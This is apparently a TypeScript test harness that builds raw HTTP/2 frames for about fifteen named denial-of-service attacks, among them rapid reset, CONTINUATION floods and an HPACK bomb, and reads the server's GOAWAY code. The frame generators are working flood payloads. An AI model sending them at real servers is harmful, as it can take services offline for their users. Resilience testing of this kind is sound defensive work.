// What one connection can have a server do for next to nothing (RFC 9113 §10.5), as bytes.

const type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
  unknown: 0xfa,
};
const endStream = 0x1;
const endHeaders = 0x4;
const ack = 0x1;
const initialWindowSize = 4;
const CANCEL = 8;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(kind: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = kind;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function setting(id: number, value: number): Buffer {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id);
  bytes.writeUInt32BE(value, 2);
  return bytes;
}

/** A length of HPACK (RFC 7541 §5.1) in seven bits. */
function hpackLength(length: number): Buffer {
  if (length < 127) return Buffer.from([length]);
  const bytes = [127];
  for (let rest = length - 127; ; rest >>>= 7) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest & 127) | 128);
  }
}

const text = (value: string) => Buffer.concat([hpackLength(value.length), Buffer.from(value, 'latin1')]);
const literal = (name: string, value: string) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
const indexedLiteral = (name: string, value: string) => Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
/** The entry that was added last to the dynamic table. */
const latestEntry = 0x80 | 62;

/** A request's fields: `:method`, `:scheme: http`, `:path`, `:authority`. */
function request(path: string, method: 'GET' | 'POST' = 'GET'): Buffer {
  const start = Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x86]);
  return Buffer.concat([start, Buffer.from([0x04]), text(path), Buffer.from([0x01]), text('a.test')]);
}

/** Bytes of at least this size go out at once. */
const waveBytes = 16_384;

export interface Attack {
  readonly name: string;
  /** After the preface and empty SETTINGS. */
  readonly opening?: Buffer;
  /** One round of it; `n` counts from 0. */
  round(n: number): Buffer;
  /** Does not read what comes back. */
  readonly deaf?: boolean;
}

/** Client streams are odd, and the first is 1. */
const streamId = (n: number) => 1 + 2 * n;
const attackedPath = '/http1/after/50';
const head = (n: number, flags: number, fields = request(attackedPath)) =>
  frame(type.headers, flags, streamId(n), fields);
const post = head(0, endHeaders, request('/http1/hash', 'POST'));
const padding = 'x'.repeat(200);

export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    round: (n) => Buffer.concat([head(n, endHeaders | endStream), frame(type.reset, 0, streamId(n), uint32(CANCEL))]),
  },
  {
    name: 'made-you-reset, WINDOW_UPDATE of 0',
    round: (n) => Buffer.concat([head(n, endHeaders | endStream), frame(type.windowUpdate, 0, streamId(n), uint32(0))]),
  },
  {
    name: 'made-you-reset, DATA after the end',
    round: (n) => Buffer.concat([head(n, endHeaders | endStream), frame(type.data, 0, streamId(n), Buffer.from('x'))]),
  },
  {
    name: 'CONTINUATION with fields',
    opening: head(0, endStream),
    round: (n) => frame(type.continuation, 0, 1, literal(`x-${n}`, padding)),
  },
  {
    name: 'CONTINUATION, empty',
    opening: head(0, endStream),
    round: () => frame(type.continuation, 0, 1),
  },
  { name: 'PING', round: () => frame(type.ping, 0, 0, Buffer.alloc(8)) },
  { name: 'PING, answers not read', round: () => frame(type.ping, 0, 0, Buffer.alloc(8)), deaf: true },
  {
    name: 'SETTINGS',
    round: (n) => frame(type.settings, 0, 0, setting(initialWindowSize, 65_535 + (n & 1))),
  },
  { name: 'empty DATA', opening: post, round: () => frame(type.data, 0, 1) },
  {
    name: 'PRIORITY',
    round: (n) => frame(type.priority, 0, streamId(n % 1000), Buffer.from([0, 0, 0, 0, n & 255])),
  },
  { name: 'WINDOW_UPDATE', round: () => frame(type.windowUpdate, 0, 0, uint32(1)) },
  { name: 'unknown frames', round: () => frame(type.unknown, 0, 0, Buffer.alloc(8)) },
  {
    name: 'HPACK bomb',
    opening: head(
      0,
      endHeaders | endStream,
      Buffer.concat([request(attackedPath), indexedLiteral('x-bomb', 'x'.repeat(3900))]),
    ),
    round: (n) =>
      head(n + 1, endHeaders | endStream, Buffer.concat([request(attackedPath), Buffer.alloc(16_000, latestEntry)])),
  },
  {
    name: 'cookie crumbs',
    opening: head(0, endHeaders | endStream, Buffer.concat([request(attackedPath), indexedLiteral('cookie', 'a=b')])),
    round: (n) =>
      head(n + 1, endHeaders | endStream, Buffer.concat([request(attackedPath), Buffer.alloc(16_000, latestEntry)])),
  },
  {
    name: 'window dribbled by octets',
    opening: Buffer.concat([
      frame(type.settings, 0, 0, setting(initialWindowSize, 0)),
      head(0, endHeaders | endStream, request('/http1/big/64')),
    ]),
    round: () => frame(type.windowUpdate, 0, 1, uint32(1)),
  },
];

/** What goes out first on the connection. */
export function openingOf(attack: Attack): Buffer {
  const settings = [frame(type.settings, 0, 0), frame(type.settings, ack, 0)];
  return Buffer.concat([preface, ...settings, ...(attack.opening ? [attack.opening] : [])]);
}

/** Rounds from number `n` on, enough for one write, and the number of the round after them. */
export function waveOf(attack: Attack, n: number): { bytes: Buffer; next: number } {
  const rounds: Buffer[] = [];
  let size = 0;
  let next = n;
  while (size < waveBytes) {
    const one = attack.round(next++);
    rounds.push(one);
    size += one.length;
  }
  return { bytes: Buffer.concat(rounds), next };
}

/** The error code of the GOAWAY frame in what a server sent; undefined when there is none. */
export function goAwayCode(sent: Buffer): number | undefined {
  for (let at = 0; at + 9 <= sent.length; at += 9 + sent.readUIntBE(at, 3))
    if (sent[at + 3] === 7 && at + 17 <= sent.length) return sent.readUInt32BE(at + 13);
  return undefined;
}
